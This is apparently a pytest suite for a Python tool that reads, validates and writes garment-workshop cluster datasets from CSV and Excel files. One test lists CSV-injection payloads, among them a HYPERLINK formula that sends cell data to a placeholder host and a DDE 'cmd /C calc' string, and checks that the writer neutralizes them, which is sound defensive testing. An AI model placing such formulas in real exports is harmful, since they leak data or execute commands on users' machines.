"""Reading, checking and writing datasets against the data contract."""

from __future__ import annotations

import os
import re
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import Workbook

from matcher.errors import InvalidDataError, InvalidOptionError
from matcher.io import load_cluster, load_contacts, validate_dataset, write_cluster
from matcher.model import Cluster, Order, RoutingStep, Tie, Workshop
from matcher.routing import default_routings
from matcher.synthetic import generate_cluster

WORKSHOPS = """workshop_id,territory,workers,products,processes
W1,Pilar,4,tshirt,cutting;sewing;finishing;packing
W2,Pilar,2,tshirt;jeans,sewing
W3,Yaguarón,6,jeans,sewing;cutting
"""


def dataset(folder: Path, **files: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    files.setdefault("workshops", WORKSHOPS)
    for name, text in files.items():
        (folder / f"{name}.csv").write_text(text, encoding="utf-8")
    return folder


def problems(path: Path) -> list[str]:
    with pytest.raises(InvalidDataError) as info:
        load_cluster(path)
    return [str(p) for p in info.value.problems]


# -- what a valid file gives ---------------------------------------------------
def test_minimal_dataset_gets_defaults(tmp_path):
    cluster = load_cluster(dataset(tmp_path / "d"))
    w1 = cluster.workshop("W1")
    assert w1 == Workshop("W1", "Pilar", 4, ("tshirt",), ("cutting", "sewing", "finishing", "packing"))
    assert w1.hours_per_week == 48 and w1.efficiency == 0.5 and w1.quality == 3
    assert w1.capacity_minutes == 4 * 48 * 60 * 0.5
    assert cluster.ties == () and cluster.orders == ()
    assert cluster.routings == default_routings()
    assert cluster.workshop("W3").territory == "Yaguarón"


def test_every_optional_column_is_read(tmp_path):
    folder = dataset(
        tmp_path / "d",
        workshops=(
            "workshop_id,territory,workers,women_workers,hours_per_week,efficiency,"
            "capacity_minutes_per_week,committed_minutes_per_week,products,processes,machines,quality,"
            "formal,can_lead,cost_per_minute,organizations,notes\n"
            "W1,Pilar,5,4,40,0.6,9000,1000,tshirt,sewing; cutting ,straight_stitch:3;overlock: 1,4,"
            "Sí,yes,0.05,Asociación A;Coop B,owner asked to be called after 6\n"
        ),
        ties="source,target,kind,strength,wave\nW1,W1x,kinship,,\n".replace("W1x", "W1"),
    )
    # a self-tie is refused; drop it and read the rest
    assert any("itself" in p for p in problems(folder))
    (folder / "ties.csv").unlink()
    w = load_cluster(folder).workshop("W1")
    assert (w.women_workers, w.hours_per_week, w.efficiency) == (4, 40.0, 0.6)
    assert w.capacity_minutes == 9000 and w.available_minutes_per_week == 8000
    assert w.processes == ("sewing", "cutting")
    assert w.machines == (("straight_stitch", 3), ("overlock", 1))
    assert (w.quality, w.formal, w.can_lead, w.cost_per_minute) == (4, True, True, 0.05)
    assert w.organizations == ("Asociación A", "Coop B")
    assert w.extra == (("notes", "owner asked to be called after 6"),)


def test_ties_firms_orders_and_routings(tmp_path):
    folder = dataset(
        tmp_path / "d",
        ties=(
            "source,target,kind,strength,wave\n"
            "W1,W2,kinship,5,2023\n"
            "W2,W1,friendship,,2023\n"
            "W1,W2,subcontracting,2,\n"
            "W2,W1,subcontracting,2,\n"  # the other direction is another tie
            "W3,W1,conflict,4,2024\n"
        ),
        lead_firms="firm_id,name,territory\nF1,Firm One (fictional),\n",
        orders=(
            "order_id,firm_id,product,quantity,due_weeks,min_quality,max_group_size,territories,"
            "require_formal,processes\n"
            "O1,F1,tshirt,300,2.5,3,2,Pilar,true,\n"
            "O2,,jeans,100,1,,,,,sewing;embroidery:2.5\n"
            "O3,,bag,10,1,,,,,\n"
        ),
        routings="product,process,minutes_per_unit\nbag,sewing,12\nbag,screen_printing,1.5\n",
    )
    cluster = load_cluster(folder)
    assert cluster.ties[0] == Tie("W1", "W2", "kinship", 5, "2023")
    assert cluster.ties[1].strength == 3 and cluster.ties[1].wave == "2023"
    assert cluster.ties[4].kind == "conflict"
    assert cluster.lead_firms[0].name == "Firm One (fictional)" and cluster.lead_firms[0].territory is None
    o1, o2, o3 = cluster.orders
    assert o1 == Order("O1", "tshirt", 300, 2.5, "F1", 3, 2, ("Pilar",), True)
    sewing = {s.process: s.minutes_per_unit for s in default_routings()["jeans"]}["sewing"]
    assert o2.processes == (RoutingStep("sewing", sewing), RoutingStep("embroidery", 2.5))
    assert cluster.routings["bag"] == (RoutingStep("sewing", 12.0), RoutingStep("screen_printing", 1.5))
    assert [s.process for s in cluster.routing_of(o3)] == ["sewing", "screen_printing"]
    assert cluster.routings["tshirt"] == default_routings()["tshirt"]


def test_a_dataset_may_define_new_products_and_processes(tmp_path):
    folder = dataset(
        tmp_path / "d",
        workshops="workshop_id,territory,workers,products,processes\nW1,T,2,mask,pleating;sewing\n",
        routings="product,process,minutes_per_unit\nmask,pleating,0.5\nmask,sewing,1\n",
    )
    assert load_cluster(folder).workshop("W1").products == ("mask",)


def test_reliability_is_read_and_may_be_unknown(tmp_path):
    folder = dataset(
        tmp_path / "d",
        workshops=(
            "workshop_id,territory,workers,products,processes,reliability\n"
            "W1,Pilar,4,tshirt,sewing,0.85\n"
            "W2,Pilar,2,tshirt,sewing,\n"
            "W3,Pilar,2,tshirt,sewing,0\n"
            "W4,Pilar,2,tshirt,sewing,1\n"
        ),
    )
    cluster = load_cluster(folder)
    assert [w.reliability for w in cluster.workshops] == [0.85, None, 0.0, 1.0]
    # a dataset without the column: every workshop's reliability is unknown
    assert {w.reliability for w in load_cluster(dataset(tmp_path / "plain")).workshops} == {None}


def test_reliability_out_of_range_or_not_a_number_is_refused(tmp_path):
    folder = dataset(
        tmp_path / "d",
        workshops=(
            "workshop_id,territory,workers,products,processes,reliability\n"
            "W1,Pilar,4,tshirt,sewing,0.9\n"
            "W2,Pilar,2,tshirt,sewing,1.4\n"
            "W3,Pilar,2,tshirt,sewing,-0.1\n"
            "W4,Pilar,2,tshirt,sewing,high\n"
            'W5,Pilar,2,tshirt,sewing,"0,8"\n'
            "W6,Pilar,2,tshirt,sewing,90%\n"
        ),
    )
    assert problems(folder) == [
        "workshops.csv row 3, column reliability: 1.4 is out of range; use a number >= 0 and <= 1",
        "workshops.csv row 4, column reliability: -0.1 is out of range; use a number >= 0 and <= 1",
        'workshops.csv row 5, column reliability: "high" is not a number',
        'workshops.csv row 7, column reliability: "90%" is not a number',
    ]


# -- bad input: every problem, with file, row and column ------------------------
def test_every_problem_is_listed_with_row_and_column(tmp_path):
    folder = dataset(
        tmp_path / "d",
        workshops=(
            "workshop_id,territory,workers,women_workers,efficiency,products,processes,quality,formal,machines\n"
            "W1,Pilar,tres,,,tshirt,sewing,,,\n"  # row 2
            "W2,Pilar,3,5,,tshirt,sewing,,,\n"  # row 3
            "W2,,0,,1.5,coat,sewing;Sewing,7,maybe,overlock\n"  # row 4
            'W4,Pilar,2,,"0,5",,sewing,,,\n'  # row 5
        ),
        ties="source,target,kind\nW1,W9,kinship\nW1,W2,rivalry\nW1,W2,kinship\nW2,W1,kinship\n",
        orders="order_id,product,quantity,due_weeks,firm_id\nO1,tshirt,-4,0,F1\nO1,jeans,10,2,\n",
    )
    found = problems(folder)
    expected = [
        'workshops.csv row 2, column workers: "tres" is not a whole number',
        "workshops.csv row 3, column women_workers: 5 women among 3 workers",
        'workshops.csv row 4, column workshop_id: "W2" is already used on row 3; ids must be unique',
        "workshops.csv row 4, column territory: is required but empty",
        "workshops.csv row 4, column workers: 0 is out of range",
        "workshops.csv row 4, column efficiency: 1.5 is out of range",
        'workshops.csv row 4, column products: unknown product code "coat"',
        "workshops.csv row 4, column quality: 7 is out of range",
        'workshops.csv row 4, column formal: "maybe" is not true or false',
        "workshops.csv row 4, column machines: machines are written type:count",
        "workshops.csv row 5, column products: needs at least one product code",
        'ties.csv row 2, column target: unknown workshop "W9"',
        'ties.csv row 3, column kind: unknown tie kind code "rivalry"',
        "ties.csv row 5: the same kinship tie between W1 and W2 is already on row 4",
        "orders.csv row 2, column quantity: -4 is out of range",
        "orders.csv row 2, column due_weeks: 0 is out of range",
        'orders.csv row 2, column firm_id: firm "F1" is given but there is no lead_firms.csv',
        'orders.csv row 3, column order_id: "O1" is already used on row 2',
    ]
    assert len(found) == len(expected)
    for text in expected:
        assert any(p.startswith(text) for p in found), f"{text!r} not in {found}"
    # listed as the user reads the files: workshops first, then by row
    assert [p.split(" ")[0] for p in found] == ["workshops.csv"] * 11 + ["ties.csv"] * 3 + ["orders.csv"] * 4
    rows = [int(p.split(" row ")[1].split(",")[0].split(":")[0]) for p in found[:11]]
    assert rows == sorted(rows)


@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
def test_control_characters_in_ids_and_text_are_problems(tmp_path, name):
    """NUL, a tab or a line break in an id, and in other text a character no workbook can hold."""
    folder = dataset(
        tmp_path / "d",
        workshops=(
            "workshop_id,territory,workers,products,processes,notes\n"
            "W\x001,Pilar,4,tshirt,sewing,ok\n"  # row 2
            '"W\t2",Pilar,2,tshirt,sewing,"two\tlines\nare fine"\n'  # row 3
            "W3,Pil\x7far,2,tshirt,sewing,bell\x07\n"  # row 4
        ),
        lead_firms="firm_id,name\nF1,Firm\x01One\n",
        orders='order_id,product,quantity,due_weeks,firm_id\n"O\n1",tshirt,4,2,F1\n',
    )
    path = folder
    if name != "folder":  # a workbook cannot hold the C0 characters: write those cells without them
        from openpyxl import Workbook

        path = tmp_path / name
        book = Workbook()
        book.active.append(["workshop_id", "territory", "workers", "products", "processes", "notes"])
        book.active.append(["W\t2", "Pilar", 2, "tshirt", "sewing", "two\tlines\nare fine"])
        book.active.append(["W3", "Pil\x7far", 2, "tshirt", "sewing", "ok"])
        book.active.title = "workshops"
        book.save(path)
        assert [p.split(": holds")[0] for p in problems(path)] == [
            "cluster.xlsx:workshops row 2, column workshop_id",
            "cluster.xlsx:workshops row 3, column territory",
        ]
        return
    found = problems(path)
    assert found == [
        "workshops.csv row 2, column workshop_id: holds a control character (\\x00); ids may hold none, "
        "not even a tab or a line break",
        "workshops.csv row 3, column workshop_id: holds a control character (\\t); ids may hold none, "
        "not even a tab or a line break",
        "workshops.csv row 4, column notes: holds a control character (\\x07) that no workbook can store; "
        "remove it",
        "workshops.csv row 4, column territory: holds a control character (\\x7f); ids may hold none, "
        "not even a tab or a line break",
        "lead_firms.csv row 2, column name: holds a control character (\\x01) that no workbook can store; "
        "remove it",
        "orders.csv row 2, column order_id: holds a control character (\\n); ids may hold none, "
        "not even a tab or a line break",
    ]
    said = validate_dataset(path).problems[0].say("es")
    assert said.startswith(
        "workshops.csv fila 2, columna workshop_id: contiene un carácter de control (\\x00)"
    )


def test_missing_columns_and_files(tmp_path):
    folder = dataset(tmp_path / "d", workshops="workshop_id,workers,products\nW1,2,tshirt\n")
    assert problems(folder) == [
        "workshops.csv row 1, column processes: required column is missing from the header row "
        "(it may also be headed procesos)",
        "workshops.csv row 1, column territory: required column is missing from the header row "
        "(it may also be headed territorio)",
    ]
    empty = tmp_path / "empty"
    empty.mkdir()
    assert problems(empty) == [
        "workshops.csv: the file is missing; every dataset needs workshops (workshops.csv, talleres.csv)"
    ]
    with pytest.raises(InvalidDataError, match="does not exist"):
        load_cluster(tmp_path / "nowhere")
    (tmp_path / "notes.txt").write_text("hello")
    with pytest.raises(InvalidDataError, match=r"neither a folder of CSV files nor an \.xlsx"):
        load_cluster(tmp_path / "notes.txt")


def test_order_rules(tmp_path):
    folder = dataset(
        tmp_path / "d",
        lead_firms="firm_id\nF1\n",
        orders=(
            "order_id,firm_id,product,quantity,due_weeks,territories,processes\n"
            "O1,F2,tshirt,1.5,2,,\n"
            "O2,F1,tshirt,10,2,Nowhere,embroidery;sewing:-1;welding:2\n"
        ),
    )
    found = problems(folder)
    assert found == [
        'orders.csv row 2, column firm_id: unknown firm "F2"; add it to lead_firms.csv',
        'orders.csv row 2, column quantity: "1.5" is not a whole number',
        "orders.csv row 3, column processes: embroidery is not in the routing of tshirt; give its minutes "
        "as embroidery:minutes",
        'orders.csv row 3, column processes: minutes of sewing must be a number > 0, got "-1"',
        'orders.csv row 3, column processes: unknown process code "welding"; known: buttonholing, cutting, '
        "embroidery, finishing, ironing, packing, pattern_making, quality_control, screen_printing, sewing, "
        "washing; or describe it in routings.csv",
    ]
    (folder / "orders.csv").write_text(
        "order_id,firm_id,product,quantity,due_weeks,territories\nO1,F1,tshirt,5,1,Nowhere\n"
    )
    report = validate_dataset(folder)
    assert report.ok
    assert [str(w) for w in report.warnings] == [
        'orders.csv row 2, column territories: no workshop is in "Nowhere"; '
        "the order can only go to listed ones"
    ]


def test_routing_rules(tmp_path):
    folder = dataset(
        tmp_path / "d",
        routings="product,process,minutes_per_unit\nbag,sewing,0\nbag,sewing,2\nBag,cutting,1\n",
    )
    found = problems(folder)
    assert any(p.startswith("routings.csv row 2, column minutes_per_unit: 0 is out of range") for p in found)
    assert any(p.startswith('routings.csv row 3, column process: "') for p in found)  # repeated step
    assert any(
        p.startswith('routings.csv row 4, column product: "Bag" is not a valid product code') for p in found
    )


def test_contacts_rules(tmp_path):
    folder = dataset(
        tmp_path / "d",
        contacts="workshop_id,owner_name,phone,lat,lon\nW1,A,1,-25.5,-57.2\nW9,B,2,,\nW2,C,3,-25.5,\nW3,D,,95,0\n",
    )
    assert problems(folder) == [
        'contacts.csv row 3, column workshop_id: unknown workshop "W9"; contacts must be of listed workshops',
        "contacts.csv row 4, column lat: give both lat and lon, or neither",
        "contacts.csv row 5, column lat: 95 is out of range; use a number >= -90 and <= 90",
    ]
    (folder / "contacts.csv").write_text("workshop_id,owner_name,phone,lat,lon\nW1,A,1,-25.5,-57.2\n")
    assert load_contacts(folder)[0].lat == -25.5
    assert load_contacts(dataset(tmp_path / "no_contacts")) == ()


def test_problems_are_capped_per_column_but_counted(tmp_path):
    rows = "".join(f"W{i},Pilar,x,tshirt,sewing\n" for i in range(1500))
    folder = dataset(tmp_path / "d", workshops="workshop_id,territory,workers,products,processes\n" + rows)
    found = problems(folder)
    assert len(found) == 1001
    assert "workshops.csv, column workers: 500 more rows have the same problem as those listed" in found


# -- encodings and spreadsheet habits --------------------------------------------
def test_bom_and_blank_rows_and_spaces(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    text = "workshop_id , territory,workers,products,processes\n\n W1 ,Pilar, 4 ,tshirt,sewing\n,,,,\n"
    (folder / "workshops.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    (folder / "ties.csv").write_text("source,target,kind\n\nW1,W2,kinship\n")
    found = problems(folder)
    # row numbers count the blank lines, as a spreadsheet shows them
    assert found == [
        'ties.csv row 3, column target: unknown workshop "W2"; every tie must join workshops '
        "listed in workshops.csv"
    ]
    (folder / "ties.csv").unlink()
    assert load_cluster(folder).workshop("W1").workers == 4


def test_latin1_file_is_read_with_a_warning(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "workshops.csv").write_bytes(WORKSHOPS.encode("cp1252"))
    report = validate_dataset(folder)
    assert report.ok
    assert "not UTF-8" in str(report.warnings[0]) and report.warnings[0].file == "workshops.csv"
    assert load_cluster(folder).workshop("W3").territory == "Yaguarón"


def test_semicolon_separated_file_is_read(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    # Lists quoted, as spreadsheets write them, or separated by commas.
    text = WORKSHOPS.replace(",", ";").replace("tshirt;jeans", '"tshirt;jeans"')
    text = text.replace("sewing;cutting", "sewing,cutting")
    text = text.replace("cutting;sewing;finishing;packing", '"cutting;sewing;finishing;packing"')
    (folder / "workshops.csv").write_text(text)
    report = validate_dataset(folder)
    assert report.ok and report.warnings == []
    cluster = load_cluster(folder)
    assert cluster.workshop("W1").processes == ("cutting", "sewing", "finishing", "packing")
    assert cluster.workshop("W2").products == ("tshirt", "jeans")
    assert cluster.workshop("W3").processes == ("sewing", "cutting")
    # A list neither quoted nor separated by commas gives the row more cells than the header:
    # said, row by row.
    (folder / "workshops.csv").write_text(WORKSHOPS.replace(",", ";"))
    fix = (
        "in a file separated by semicolons a list in a cell must be in quotes "
        '("cutting;sewing") or separated by commas (cutting,sewing)'
    )
    assert problems(folder) == [
        f"workshops.csv row 2: the row has 8 cells but the header row has 5; {fix}",
        f"workshops.csv row 3: the row has 6 cells but the header row has 5; {fix}",
        f"workshops.csv row 4: the row has 6 cells but the header row has 5; {fix}",
    ]
    # A decimal comma not in quotes in a file separated by commas: the same, said for commas.
    (folder / "workshops.csv").write_text(WORKSHOPS.replace("W3,Yaguarón,6,", "W3,Yaguarón,6,5,"))
    assert problems(folder) == [
        "workshops.csv row 4: the row has 6 cells but the header row has 5; a cell that holds a comma "
        '(a decimal comma, a list) must be in quotes, like "0,5"'
    ]


def test_workbook_reads_like_csv_and_names_sheets(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "workshops"
    sheet.append(["workshop_id", "territory", "workers", "products", "processes", "efficiency", "formal"])
    sheet.append(["W1", "Pilar", 4, "tshirt", "sewing", 0.55, True])
    sheet.append(["W2", "Pilar", "cuatro", "tshirt", "sewing", None, None])
    ties = book.create_sheet("ties")
    ties.append(["source", "target", "kind"])
    ties.append(["W1", "W2", "kinship"])
    path = tmp_path / "cluster.xlsx"
    book.save(path)
    assert problems(path) == ['cluster.xlsx:workshops row 3, column workers: "cuatro" is not a whole number']
    book["workshops"]["C3"] = 4
    book.save(path)
    cluster = load_cluster(path)
    assert cluster.workshop("W1").efficiency == 0.55 and cluster.workshop("W1").formal is True
    assert len(cluster.ties) == 1


def test_workbook_reads_and_checks_reliability(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "workshops"
    sheet.append(["workshop_id", "territory", "workers", "products", "processes", "reliability"])
    sheet.append(["W1", "Pilar", 4, "tshirt", "sewing", 0.95])
    sheet.append(["W2", "Pilar", 2, "tshirt", "sewing", None])
    sheet.append(["W3", "Pilar", 2, "tshirt", "sewing", 1.4])
    path = tmp_path / "cluster.xlsx"
    book.save(path)
    assert problems(path) == [
        "cluster.xlsx:workshops row 4, column reliability: 1.4 is out of range; use a number >= 0 and <= 1"
    ]
    book["workshops"]["F4"] = 1
    book.save(path)
    assert [w.reliability for w in load_cluster(path).workshops] == [0.95, None, 1.0]


# -- writing ---------------------------------------------------------------------
@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
def test_generated_cluster_round_trips(tmp_path, name):
    cluster, contacts = generate_cluster(120, 6, seed=3, waves=2)
    own = dict(cluster.routings)
    own["bag"] = (RoutingStep("sewing", 12.5), RoutingStep("packing", 0.25))
    cluster = Cluster(cluster.workshops, cluster.ties, cluster.lead_firms, cluster.orders, own)
    path = write_cluster(cluster, tmp_path / name, contacts=contacts)
    assert load_cluster(path) == cluster
    assert load_contacts(path) == contacts


@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
def test_reliability_round_trips_known_and_unknown(tmp_path, name):
    cluster, _ = generate_cluster(12, 1, seed=5)
    values = [0.9, None, 0.0, 1.0, 0.123456789]
    workshops = tuple(
        replace(w, reliability=values[i % len(values)]) for i, w in enumerate(cluster.workshops)
    )
    cluster = replace(cluster, workshops=workshops)
    path = write_cluster(cluster, tmp_path / name)
    loaded = load_cluster(path)
    assert loaded == cluster
    assert [w.reliability for w in loaded.workshops] == [w.reliability for w in workshops]


#: Text a spreadsheet would run as a formula (OWASP CSV injection), and text that only looks like it.
FORMULAS = (
    '=HYPERLINK("http://x/?q="&B2,"U")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    "'=quoted already",
    "#N/A",
)


def _with_line_feeds(cluster: Cluster) -> Cluster:
    firms = tuple(replace(f, name=f.name.replace("\r", "\n")) for f in cluster.lead_firms)
    workshops = tuple(
        replace(w, extra=tuple((k, v.replace("\r", "\n")) for k, v in w.extra)) for w in cluster.workshops
    )
    return replace(cluster, lead_firms=firms, workshops=workshops)


@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
def test_every_formula_prefix_is_written_inert_and_read_back_equal(tmp_path, name):
    cluster, _ = generate_cluster(len(FORMULAS), 1, seed=1)
    firms = tuple(replace(cluster.lead_firms[0], firm_id=f"F{i}", name=t) for i, t in enumerate(FORMULAS))
    workshops = tuple(
        replace(w, extra=(("=notes", t), ("-lat", "-25.3")))
        for w, t in zip(cluster.workshops, FORMULAS, strict=True)
    )
    cluster = replace(cluster, workshops=workshops, lead_firms=firms, orders=())
    path = write_cluster(cluster, tmp_path / name)
    if name == "folder":
        import csv

        with open(path / "lead_firms.csv", encoding="utf-8", newline="") as handle:
            names = [row[1] for row in csv.reader(handle)][1:]
        with open(path / "workshops.csv", encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        header, extra = rows[0][-2:], [row[-2:] for row in rows[1:]]
    else:
        from openpyxl import load_workbook

        book = load_workbook(path)
        cells = [row[1] for row in book["lead_firms"].iter_rows(min_row=2)]
        assert {c.data_type for c in cells} == {"s"}  # text, never a formula ("f") or an error ("e")
        names = [c.value for c in cells]
        rows = [[c.value for c in row] for row in book["workshops"].iter_rows()]
        header, extra = rows[0][-2:], [row[-2:] for row in rows[1:]]
        assert {c.data_type for row in book["workshops"].iter_rows() for c in row if c.value} == {"s"}
    inert = ["'" + t if t[0] in "=+-@\t\r'" else t for t in FORMULAS]
    if name != "folder":  # XML (so a workbook) keeps a carriage return as a line feed
        inert = [t.replace("\r", "\n") for t in inert]
        cluster = load_cluster(write_cluster(_with_line_feeds(cluster), tmp_path / "lf"))
    assert names == inert
    assert header == ["'=notes", "'-lat"]
    assert extra[0] == ["'" + FORMULAS[0], "-25.3"]  # a negative number is a number, not a formula
    assert load_cluster(path).lead_firms == cluster.lead_firms
    assert load_cluster(path).workshops == cluster.workshops


def test_write_refuses_to_overwrite_and_is_atomic(tmp_path, monkeypatch):
    cluster, _ = generate_cluster(10, 1, seed=1)
    target = write_cluster(cluster, tmp_path / "out")
    with pytest.raises(InvalidOptionError, match="already exists"):
        write_cluster(cluster, target)
    before = sorted(os.listdir(target))

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("matcher.io._write._write_csv_folder", broken)
    with pytest.raises(OSError, match="disk full"):
        write_cluster(cluster, target, overwrite=True)
    assert sorted(os.listdir(target)) == before  # old dataset intact
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging left behind
    monkeypatch.undo()
    smaller, _ = generate_cluster(5, 1, seed=2)
    write_cluster(smaller, target, overwrite=True)
    assert load_cluster(target) == smaller
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_every_problem_the_reader_says_has_its_words_in_both_languages():
    from matcher.messages import ENGLISH

    modules = Path(__file__).parents[2].glob("matcher/io/*.py")
    source = "\n".join(p.read_text(encoding="utf-8") for p in modules)
    written = set(re.findall(r'"(problem\.[a-z_]+)"', source))
    # Keys made at run time: by group of codes, and by kind of range.
    made = {f"problem.{k}_{g}" for k in ("unknown", "needs") for g in ("product", "process")}
    made |= {f"problem.unknown_{g}{near}" for g in ("product", "process", "kind") for near in ("", "_near")}
    made |= {f"problem.bad_{g}_code" for g in ("product", "process")}
    made |= {"problem.whole_at_least", "problem.whole_between", "problem.number_above"}
    made |= {"problem.number_at_least", "problem.number_between", "problem.number_above_at_most"}
    assert len(written) > 30
    assert (written | made) - set(ENGLISH) == set()
